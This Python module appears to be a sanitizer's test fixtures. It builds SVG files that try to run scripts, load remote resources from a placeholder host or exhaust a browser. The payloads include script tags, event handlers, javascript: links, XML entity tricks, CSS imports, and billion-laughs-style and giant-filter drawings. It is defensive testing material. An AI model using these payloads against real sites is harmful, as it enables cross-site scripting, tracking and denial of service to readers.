"""Drawings that try to run a script, load something, or lead readers elsewhere, each in its own way.

A script that runs asks the site for ``/ran``; what would be loaded from outside the drawing is on ``elsewhere.test``.
"""

from __future__ import annotations

from base64 import b64encode

SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = "http://www.w3.org/1999/xhtml"
RUN = "new Image().src='/ran'"
THERE = "http://elsewhere.test"


def drawing(inside: str, more: str = "", before: str = "") -> bytes:
    """A drawing of 40 by 40 with something inside."""
    return f'{before}<svg {SPACES} width="40" height="40" {more}>{inside}</svg>'.encode()


def _styled(css: str) -> bytes:
    return drawing(f'<style>{css}</style><rect class="a" width="9" height="9"/><text class="a" y="20">A</text>')


_NESTED = b64encode(drawing(f"<script>{RUN}</script>")).decode()
_SCRIPT = f"javascript:void({RUN})"
_SHOT = '<rect width="40" height="40"/>'

RUNS: dict[str, bytes] = {
    "script": drawing(f"<script>{RUN}</script>"),
    "script in CDATA": drawing(f"<script><![CDATA[{RUN}]]></script>"),
    "script from elsewhere": drawing(f'<script href="{THERE}/a.js"/>'),
    "script from elsewhere, xlink": drawing(f'<script xlink:href="{THERE}/a.js"/>'),
    "script in a data address": drawing(f'<script href="data:text/javascript,{RUN}"/>'),
    "module": drawing(f'<script type="module">{RUN}</script>'),
    "script under another prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script></s:svg>'.encode(),
    "script of XHTML": drawing(f'<h:script xmlns:h="{XHTML}">{RUN}</h:script>'),
    "script inside metadata": drawing(f"<metadata><script>{RUN}</script></metadata>"),
    "script of XHTML inside metadata": drawing(f'<metadata><script xmlns="{XHTML}">{RUN}</script></metadata>'),
    "script inside desc": drawing(f'<desc><script xmlns="{XHTML}">{RUN}</script></desc>'),
    "script inside an unknown element": drawing(f'<x:y xmlns:x="urn:x"><script>{RUN}</script></x:y>'),
    "root of XHTML": f'<html xmlns="{XHTML}"><script>{RUN}</script></html>'.encode(),
    "root of XHTML with a drawing": f'<html xmlns="{XHTML}"><svg {SPACES}/><script>{RUN}</script></html>'.encode(),
    "root of another namespace": f'<x xmlns="urn:x"><script xmlns="{XHTML}">{RUN}</script></x>'.encode(),
    "onload": drawing("", f'onload="{RUN}"'),
    "onload by a character reference": drawing("", 'onload="new Image().src=&#39;/ran&#39;"'),
    "onbegin": drawing(f'<animate attributeName="x" dur="1s" onbegin="{RUN}"/>'),
    "onerror of a picture": drawing(f'<image href="data:image/png;base64,AAAA" onerror="{RUN}"/>'),
    "onfocus": drawing(f'<a tabindex="0" autofocus="" onfocus="{RUN}" onfocusin="{RUN}">{_SHOT}</a>'),
    "ontoggle": drawing(f'<g ontoggle="{RUN}" onpointerrawupdate="{RUN}">{_SHOT}</g>'),
    "foreignObject": drawing(
        f'<foreignObject width="9" height="9"><img xmlns="{XHTML}" src="x" onerror="{RUN}"/></foreignObject>'
    ),
    "frame": drawing(f'<iframe xmlns="{XHTML}" src="{_SCRIPT}"/>'),
    "frame with a page in it": drawing(
        '<foreignObject width="9" height="9">'
        f'<iframe xmlns="{XHTML}" srcdoc="&lt;script>{RUN}&lt;/script>"/></foreignObject>'
    ),
    "frame beside a foreignObject for Illustrator": drawing(
        '<foreignObject requiredExtensions="http://ns.adobe.com/x">'
        f'<iframe xmlns="{XHTML}" src="{_SCRIPT}"/></foreignObject>'
    ),
    "object": drawing(f'<object xmlns="{XHTML}" data="data:text/html,&lt;script>{RUN}&lt;/script>"/>'),
    "embed": drawing(f'<embed xmlns="{XHTML}" src="/page.html"/>'),
    "form": drawing(
        f'<form xmlns="{XHTML}" action="{THERE}"><button formaction="{_SCRIPT}">A</button></form>',
    ),
    "refresh": drawing(f'<meta xmlns="{XHTML}" http-equiv="refresh" content="0;url={THERE}/"/>'),
    "base": drawing(f'<base xmlns="{XHTML}" href="{THERE}/"/><image href="a.png" width="9" height="9"/>'),
    "link": drawing(f'<link xmlns="{XHTML}" rel="stylesheet" href="{THERE}/a.css"/>'),
    "preload": drawing(f'<link xmlns="{XHTML}" rel="preload" as="image" href="{THERE}/a.png"/>'),
    "picture of XHTML": drawing(f'<img xmlns="{XHTML}" src="{THERE}/a.png"/>'),
    "video": drawing(f'<video xmlns="{XHTML}" src="{THERE}/a.mp4" autoplay=""/>'),
    "video of SVG": drawing(f'<video src="{THERE}/a.mp4" autoplay=""/><audio src="{THERE}/a.mp3"/>'),
    "handler": drawing(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>'),
    "listener": drawing('<listener event="load" handler="#a"/>'),
    "discard": drawing('<discard begin="0s"/>'),
    "entity": drawing("&a;", before=f'<!DOCTYPE svg [<!ENTITY a "<script>{RUN}</script>">]>'),
    "entity from elsewhere": drawing("&a;", before=f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{THERE}/a">]>'),
    "parameter entity": drawing("", before=f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{THERE}/a.dtd"> %a;]>'),
    "attribute by default": drawing("", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'),
    "document type from elsewhere": drawing("", before=f'<!DOCTYPE svg SYSTEM "{THERE}/a.dtd">'),
    "style sheet": drawing("", before=f'<?xml-stylesheet href="{THERE}/a.css" type="text/css"?>'),
    "style sheet inside": drawing(f'<?xml-stylesheet href="{THERE}/a.css" type="text/css"?>'),
    "transformation": drawing("", before='<?xml-stylesheet href="#x" type="text/xsl"?>'),
    "in UTF-16": f'<?xml version="1.0" encoding="UTF-16"?><svg {SPACES}><script>{RUN}</script></svg>'.encode("utf-16"),
    "in another encoding": f'<?xml version="1.0" encoding="windows-1254"?><svg {SPACES} onload="{RUN}"/>'.encode(
        "cp1254"
    ),
    "in UTF-7": f'<?xml version="1.0" encoding="UTF-7"?><svg {SPACES}>+ADw-script+AD4-</svg>'.encode(),
    "animated link": drawing(f'<a><animate attributeName="href" to="{_SCRIPT}" begin="0s" fill="freeze"/>{_SHOT}</a>'),
    "animated link, xlink": drawing(
        f'<a><set attributeName="xlink:href" to="{_SCRIPT}" begin="0s" fill="freeze"/>{_SHOT}</a>'
    ),
    "animated link under another prefix": (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
        f'<a><animate attributeName="l:href" values="{THERE};{_SCRIPT}" begin="0s" fill="freeze"/>{_SHOT}</a></svg>'
    ).encode(),
    "animated from outside the link": drawing(
        f'<a id="a">{_SHOT}</a><animate href="#a" attributeName="href" to="{_SCRIPT}" begin="0s" fill="freeze"/>'
    ),
    "animated event": drawing(f'<set attributeName="onmouseover" to="{RUN}"/>'),
    "animated picture": drawing(
        f'<image width="9" height="9"><set attributeName="href" to="{THERE}/a.png" begin="0s"/></image>'
    ),
    "animated fill": drawing(f'<rect width="9" height="9"><set attributeName="fill" to="url({THERE}/a#b)"/></rect>'),
    "animated style": drawing(
        f'<rect width="9" height="9"><set attributeName="style" to="fill:url({THERE}/a#b)"/></rect>'
    ),
    "link that runs": drawing(f'<a href="{_SCRIPT}">{_SHOT}</a>'),
    "link that runs, with a tab": drawing(f'<a href="java&#9;script:{RUN}">{_SHOT}</a>'),
    "link that runs, xlink": drawing(f'<a xlink:href="{_SCRIPT}">{_SHOT}</a>'),
    "link elsewhere": drawing(f'<a href="{THERE}/log-in">{_SHOT}</a>'),
    "link elsewhere without a scheme": drawing(f'<a href="//elsewhere.test/log-in" target="_top">{_SHOT}</a>'),
    "link to a page of the site": drawing(f'<a href="/ran">{_SHOT}</a>'),
    "link to a page in itself": drawing(f'<a href="data:text/html,&lt;script>{RUN}&lt;/script>">{_SHOT}</a>'),
    "link with a base": drawing(f'<g xml:base="{THERE}/"><a href="a">{_SHOT}</a></g>'),
    "picture from elsewhere": drawing(f'<image href="{THERE}/a.png" width="9" height="9"/>'),
    "picture from elsewhere, xlink": drawing(f'<image xlink:href="{THERE}/a.png" width="9" height="9"/>'),
    "picture without a scheme": drawing('<image href="//elsewhere.test/a.png" width="9" height="9"/>'),
    "picture with backslashes": drawing(r'<image href="\\elsewhere.test\a.png" width="9" height="9"/>'),
    "picture of the site": drawing('<image href="/ran" width="9" height="9"/>'),
    "picture with a base": drawing(f'<g xml:base="{THERE}/"><image href="a.png" width="9" height="9"/></g>'),
    "picture that is a drawing": drawing(f'<image href="data:image/svg+xml;base64,{_NESTED}" width="9" height="9"/>'),
    "picture that is a page": drawing('<image href="data:text/html,x" width="9" height="9"/>'),
    "picture that says to be a PNG": drawing(f'<image href="data:image/png;base64,{_NESTED}" width="9" height="9"/>'),
    "picture in a filter": drawing(
        f'<filter id="f"><feImage href="{THERE}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "part of another drawing": drawing(f'<use href="{THERE}/a.svg#b"/>'),
    "part of a drawing of the site": drawing('<use href="/ran#b"/>'),
    "part of a drawing in itself": drawing(f'<use href="data:image/svg+xml;base64,{_NESTED}#b"/>'),
    "gradient from elsewhere": drawing(f'<linearGradient id="g" href="{THERE}/a.svg#b"/><rect fill="url(#g)"/>'),
    "path from elsewhere": drawing(f'<text><textPath href="{THERE}/a.svg#b">A</textPath></text>'),
    "fill": drawing(f'<rect width="9" height="9" fill="url({THERE}/a.svg#b)"/>'),
    "fill in capitals": drawing(f'<rect width="9" height="9" fill="URL( \'{THERE}/a.svg#b\' )"/>'),
    "fill with an escape": drawing(rf'<rect width="9" height="9" fill="\75rl({THERE}/a.svg#b)"/>'),
    "filter, mask, clip": drawing(
        f'<rect width="9" height="9" filter="url({THERE}/a#b)" mask="url(/ran#b)" clip-path="url({THERE}/c#d)"/>'
    ),
    "marker": drawing(f'<path d="M0 0L9 9" marker-end="url({THERE}/a#b)" stroke="red"/>'),
    "cursor": drawing(f'<rect width="40" height="40" cursor="url({THERE}/a.png), auto"/>'),
    "style attribute": drawing(f'<rect width="9" height="9" style="fill:url({THERE}/a.svg#b)"/>'),
    "style attribute with a comment": drawing(f'<rect width="9" height="9" style="mask:/**/url(/**/{THERE}/a#b)"/>'),
    "style attribute that does not end": drawing(f'<rect width="9" height="9" style="fill:url({THERE}/a.svg#b"/>'),
    "import": _styled(f"@import url({THERE}/a.css);"),
    "import as words": _styled(f"@import '{THERE}/a.css';"),
    "import with an escape": _styled(rf"@\69mport '{THERE}/a.css';"),
    "import behind CDATA": _styled(f"<![CDATA[@import '{THERE}/a.css';]]>"),
    "import behind a layer": _styled(f"@layer x;@import url({THERE}/a.css) layer(x);"),
    "font": _styled(f"@font-face{{font-family:F;src:url({THERE}/a.woff2)}}.a{{font-family:F}}"),
    "font by src()": _styled(f"@font-face{{font-family:F;src:src('{THERE}/a.woff2')}}.a{{font-family:F}}"),
    "picture in a style": _styled(f".a{{background:url({THERE}/a.png);mask:url('{THERE}/b.svg#c')}}"),
    "picture in a style by image-set": _styled(f".a{{mask-image:image-set('{THERE}/a.png' 1x)}}"),
    "picture in a style by -webkit-image-set": _styled(f".a{{mask-image:-webkit-image-set('{THERE}/a.png' 1x)}}"),
    "picture in a style by cross-fade": _styled(f".a{{mask-image:cross-fade(url({THERE}/a.png),red)}}"),
    "picture in a variable": _styled(f":root{{--a:url({THERE}/a.png)}}.a{{mask-image:var(--a)}}"),
    "picture in a nested rule": _styled(f"@media all{{@supports (fill:red){{.a{{mask-image:url({THERE}/a.png)}}}}}}"),
    "picture in an animation": _styled(f"@keyframes k{{to{{mask-image:url({THERE}/a.png)}}}}.a{{animation:k 1s}}"),
    "list with a picture": _styled(f"text{{content:url({THERE}/a.png);list-style:url({THERE}/b.png)}}"),
    "style of another kind": drawing(f'<style type="text/plain">@import "{THERE}/a.css";</style>'),
    "style of XHTML": drawing(f'<style xmlns="{XHTML}">@import "{THERE}/a.css";</style>'),
    "binding": _styled(f".a{{-moz-binding:url({THERE}/a.xml#b);behavior:url({THERE}/a.htc)}}"),
    "namespace": _styled(f"@namespace x url({THERE}/a);"),
}
"""Each is refused, or loses what it would do."""


def laughs(levels: int, times: int) -> bytes:
    """A drawing whose parts use one another: ``times`` to the power of ``levels`` of them."""
    parts = ['<g id="a0"><rect width="1" height="1"/></g>']
    parts += (f'<g id="a{n}">{f"<use href=%s#a{n - 1}%s/>" % (chr(34), chr(34)) * times}</g>' for n in range(1, levels))
    return drawing("".join(parts))


def nested(kind: str, refer: str, style: str = "") -> bytes:
    """Nine parts, each of ten rectangles that refer to the next; ``refer`` has ``{}`` for its number."""
    parts = (f'<{kind} id="p{number}">{f"<rect {refer.format(number + 1)}/>" * 10}</{kind}>' for number in range(9))
    return drawing(f"<style>{style}</style>{''.join(parts)}<rect {refer.format(0)}/>")


_CLASSES = "".join(f".c{number} {{ stroke: url(#p{number}) }}" for number in range(9))
_RECTS = "<rect/>" * 1000
_BUSY = "keep a reader's browser busy"

EXCESSIVE: dict[str, tuple[bytes, str]] = {
    "uses of uses": (laughs(10, 10), "reuse one another so often"),
    "uses of uses, one by one": (laughs(80, 2), "reuse one another so often"),
    "uses by escaped names": (laughs(10, 10).replace(b'"#a', b'"#%61'), "reuse one another so often"),
    "patterns of patterns": (nested("pattern", 'fill="url(#p{})"'), "reuse one another so often"),
    "strokes of patterns": (nested("pattern", 'stroke="url( &apos;#p{}&apos; )"'), "reuse one another so often"),
    "patterns by style": (nested("pattern", 'style="fill:/**/url(#p{})"'), "reuse one another so often"),
    "patterns by escapes": (nested("pattern", r'style="fill:u\72l(#\70 {})"'), "reuse one another so often"),
    "patterns by class": (nested("pattern", 'class="a c{}"', _CLASSES), "reuse one another so often"),
    "patterns by a class in a block": (
        nested("pattern", 'class="c{}"', f"@media all {{ {_CLASSES} }}"),
        "reuse one another so often",
    ),
    "masks of masks": (nested("mask", 'mask="url(#p{})"'), "reuse one another so often"),
    "clips of clips": (nested("clipPath", 'clip-path="url(#p{})"'), "reuse one another so often"),
    "inherited patterns": (
        drawing("".join(f'<pattern id="p{n}" fill="url(#p{n + 1})">{"<rect/>" * 10}</pattern>' for n in range(9))),
        "reuse one another so often",
    ),
    "patterns passed on by a use": (
        drawing(f'<g id="g">{_RECTS}</g><pattern id="p">{_RECTS}</pattern><use href="#g" fill="url(#p)"/>'),
        "reuse one another so often",
    ),
    "markers at every vertex": (
        drawing(f'<marker id="m">{_RECTS}</marker><path marker-mid="url(#m)" d="M0 0{"h1" * 1000}"/>'),
        "reuse one another so often",
    ),
    "gradients of gradients": (
        drawing("".join(f'<linearGradient id="g{n}" href="#g{n + 1}"/>' for n in range(100))),
        "reuse one another so often",
    ),
    "a filter of a wide region": (
        drawing('<filter id="f" filterUnits="userSpaceOnUse" x="-1e6" width="2e6"><feOffset/></filter>'),
        _BUSY,
    ),
    "a wide blur": (drawing('<filter id="f"><feGaussianBlur stdDeviation="1 100000"/></filter>'), _BUSY),
    "a wide blur in inches": (drawing('<rect style="filter:blur(90in)"/>'), _BUSY),
    "a wide blur in a style sheet": (drawing("<style>rect { filter: blur(99999px) }</style>"), _BUSY),
    "a wide shadow": (drawing('<filter id="f"><feDropShadow dx="9e5" stdDeviation="2"/></filter>'), _BUSY),
    "a wide brush": (drawing('<filter id="f"><feMorphology radius="5000"/></filter>'), _BUSY),
    "a blur that grows": (
        drawing(
            '<filter id="f"><feGaussianBlur stdDeviation="1">'
            '<animate attributeName="stdDeviation" to="99999" dur="1s"/></feGaussianBlur></filter>'
        ),
        _BUSY,
    ),
    "much noise": (drawing('<filter id="f"><feTurbulence numOctaves="5000"/></filter>'), _BUSY),
    "blocks of style in blocks": (
        drawing(f"<style>{'a{' * 60_000}fill:url(#p){'}' * 60_000}</style><script/>"),
        "script",
    ),
    "a part in every rule and for every element": (
        drawing(f"<style>{''.join(f'*{{fill:url(#p{n})}}' for n in range(3000))}</style>{'<g/>' * 3000}"),
        "reuse one another so often",
    ),
    "many parts that every element inherits": (
        drawing(f'<g style="{"".join(f"--a{n}:url(#p);" for n in range(5000))}">{"<g/>" * 5000}</g>'),
        "reuse one another so often",
    ),
    "scripts in UTF-16": (drawing('<g on=""/>' * 20_000).decode().encode("utf-16"), "19,999 more like it"),
    "comments in comments": (drawing(f'<g style="{"/*" * 500_000}"/><script/>'), "a script"),
    "deep": (drawing("<g>" * 200 + "</g>" * 200), "more than 100 deep"),
    "deep inside metadata": (drawing(f"<metadata>{'<g>' * 200}{'</g>' * 200}</metadata>"), "more than 100 deep"),
    "many": (drawing("<g/>" * 100_001), "more than 100,000 elements"),
    "heavy": (drawing("<!--" + " " * 5_000_000 + "-->"), "the limit is 5,000,000"),
    "much style": (drawing(f"<style>{'@' * 300_000}</style>"), "more CSS than Broadsheet can check"),
    "brackets": (drawing(f"<style>{'(' * 150_000}</style><script/>"), "a script"),
    "cut off": (drawing("<g>")[:-9], "not well-formed XML"),
    "empty": (b"", "not well-formed XML"),
    "of bytes": (bytes(range(256)), "not well-formed XML"),
}
"""Drawings that would keep a reader's browser, or us, busy for ever; each with what is said of it."""
